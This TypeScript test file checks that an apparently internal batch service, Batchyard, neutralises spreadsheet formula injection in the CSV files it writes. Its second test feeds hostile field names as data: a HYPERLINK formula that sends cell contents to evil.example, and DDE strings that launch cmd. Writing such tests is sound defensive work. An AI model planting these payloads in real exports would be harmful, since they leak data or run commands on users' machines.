import { parse } from 'csv-parse/sync';
import { readCsvCell } from '@batchyard/csv';
import { http, untilTaskEnded, useBatchyard } from '@batchyard/test-support';

/**
 * Every CSV Batchyard writes takes a cell that a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, tab,
 * carriage return first) as text, with a leading `'`; Batchyard's own CSV input reads such a file back to the same
 * values, so a result file uploaded again as a task's input makes the same short IDs.
 */
describe('CSV files Batchyard writes, against formula injection (embedded)', () => {
  const by = useBatchyard();
  const auth = () => ({ authorization: by.key });

  const lines = (csv: string) => (parse(csv) as string[][]).map((cells) => cells.map(readCsvCell));

  async function runTask(batchId: string, body: unknown) {
    const created = await http(`${by.url}/batches/${batchId}/tasks`, { method: 'POST', headers: auth(), body });
    expect(created.status).toBe(202);
    return untilTaskEnded(by.url, created.headers.get('location')!, auth(), 600);
  }

  it('writes short IDs that start with "-" as text, and a FILE_BASED task reading that file makes the same short IDs', async () => {
    const batchId = (await http(`${by.url}/batches`, { method: 'POST', headers: auth(), body: { name: 'Dashes' } })).body.id;
    const codes = await runTask(batchId, {
      type: 'SHORT_ID_GENERATION',
      inputParameters: { quantity: 3, shortIdTemplate: { type: 'SEQUENTIAL', length: 6, padding: 'CHAR', paddingChar: '-', start: 7 } },
    });
    expect(codes.status).toBe('EXECUTED');
    const file = await fetch(codes.result.location, { headers: auth() });
    const csv = await file.text();
    expect(csv).toBe(`SHORT_ID\n"'-----7"\n"'-----8"\n"'-----9"\n`);

    // The file as it was downloaded is the input of a FILE_BASED task.
    const input = (await http(`${by.url}/files`, { method: 'POST', headers: auth(), body: { name: 'codes.csv', type: 'text/csv', privateAccess: true } })).body;
    expect((await fetch(input.uploadUrl, { method: 'PUT', headers: { 'content-type': 'text/csv' }, body: csv })).status).toBe(200);
    const contentUrl = (await http(`${by.url}/files/${input.id}`, { headers: auth() })).body.contentUrl;
    const populated = await runTask(batchId, {
      type: 'POPULATING',
      outputParameters: { type: 'CSV', columns: ['SHORT_ID'] },
      inputParameters: {
        type: 'FILE_BASED',
        generateThngs: false,
        generateRedirections: true,
        defaultRedirectUrl: 'https://example.com/r',
        thngTemplate: { name: 'unused' },
        shortDomain: 'tn.gg',
        location: contentUrl,
        format: 'CSV',
      },
    });
    expect(populated).toMatchObject({ status: 'EXECUTED', result: { totalUrlBindingsCreated: 3, failedOperationsAmount: 0 } });
    const result = await (await fetch(populated.result.location, { headers: auth() })).text();
    expect(lines(result)).toEqual([['SHORT_ID'], ['-----7'], ['-----8'], ['-----9']]);
  }, 120_000);

  it('writes a bulk job error file whose client-chosen field names cannot run as formulas', async () => {
    const hostile = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '-2+3'];
    const data = hostile.map((field) => ({ name: 'Mallory', [field]: 'x' }));
    const job = await http(`${by.url}/v1/batches`, { method: 'POST', headers: { 'px-api-key': by.key }, body: { resource: 'contact', action: 'merge', mode: 'sync', data } });
    expect(job.status).toBe(201);
    expect(job.body.data.stats.rejected).toBe(hostile.length);
    const urls = await http(`${by.url}/v1/batches/${job.body.data.id}?include_errors_csv=true`, { headers: { 'px-api-key': by.key } });
    const csv = (await http(urls.body.data._errors_csv_url)).text;

    const rows = parse(csv) as string[][];
    expect(rows[0]).toEqual(['row', 'line', 'field', 'code', 'message']);
    // No cell as written starts the way a formula does...
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // ...and each reads back as the field name it was.
    expect(rows.slice(1).map((row) => readCsvCell(row[2]))).toEqual(hostile);
  });
});
